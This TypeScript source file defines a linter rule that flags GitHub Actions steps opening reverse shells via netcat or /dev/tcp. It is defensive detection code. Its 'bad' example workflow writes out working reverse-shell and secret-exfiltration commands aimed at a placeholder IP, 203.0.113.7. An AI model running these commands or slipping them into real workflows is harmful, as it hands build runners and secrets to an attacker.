import { bad, good, source } from '../../../core/rule.js';
import { plainCommands } from '../model/commands.js';
import { githubRule, type Rule } from '../rule.js';

export const rule: Rule = githubRule('github/reverse-shell', {
  summary: 'A connection to an address, as a reverse shell makes it',
  why: `A step that connects \`nc\` to an IP address, or a shell to \`/dev/tcp\`, is how a workflow that was broken into hands
its runner to somebody else. Where it is meant, name the host, and take a tool that says what it does: \`curl\`, \`ssh\`,
\`wait-for-it\`.`,
  category: 'security',
  severity: 'warning',
  profile: 'recommended',
  since: '0.1',
  peers: ['checkov:CKV_GHA_4'],
  fix: 'none',
  reach: 'part',
  messages: {
    netcat: '"{program}" connects to {address}, as a reverse shell does. Name the host, or take this out.',
    device: 'A shell is connected to {address}. Take this out, unless you know who listens there.',
  },
  on: {
    script({ script }, ctx) {
      for (const { name, args, pos, end } of plainCommands(script)) {
        const words = args.map(({ text }) => text);
        if (/^(?:nc|netcat|ncat)(?:\.exe)?$/.test(name)) {
          const address = words.find((word) => ipv4.test(word) && !word.startsWith('127.'));
          const isFirst = address !== undefined && words[0] === address;
          const runs = words.some((word) => /^(?:-[a-z]*[ec]|--exec|--sh-exec)$/.test(word));
          // Options that only look whether somebody listens come first.
          if (address === undefined || !(isFirst || runs)) continue;
          const details = isFirst && name !== 'ncat' ? {} : { aliases: [] };
          ctx.report(script.span({ pos, end }), 'netcat', { program: name, address }, details);
        } else if (/^(?:ba|z|k)?sh$/.test(name) && words.some((word) => /^-[a-z]*i$/.test(word))) {
          const device = /[<>&]\s{0,9}\/dev\/(?:tcp|udp)\/([\w.-]{1,99})\/\d/.exec(lineFrom(script.text, pos));
          const [, address] = device ?? [];
          if (address !== undefined) ctx.report(script.span({ pos, end }), 'device', { address }, { aliases: [] });
        }
      }
    },
  },
  examples: [
    bad(source`
      on: push
      jobs:
        build:
          runs-on: ubuntu-latest
          steps:
            - run: ‹nc 203.0.113.7 4444 -e /bin/sh›
            - run: |
                make
                ‹netcat 203.0.113.7 4444› < secrets.txt
                ‹nc -e /bin/sh 203.0.113.7 4444›
                ‹bash -i› >& /dev/tcp/203.0.113.7/4444 0>&1
    `),
    good(source`
      on: push
      jobs:
        build:
          runs-on: ubuntu-latest
          steps:
            - run: |
                nc -z 10.0.0.5 5432
                nc -zv 127.0.0.1 5432 && nc 127.0.0.1 8080 < request
                nc db.example.com 5432
                timeout 1 bash -c '</dev/tcp/db/5432'
                sync 203.0.113.7
    `),
  ],
});

const ipv4 = /^\d{1,3}(?:\.\d{1,3}){3}$/;

/** The rest of a line, as far as a command with its redirections goes. */
function lineFrom(text: string, start: number): string {
  return text.slice(start, start + 300).split('\n', 1)[0] ?? '';
}
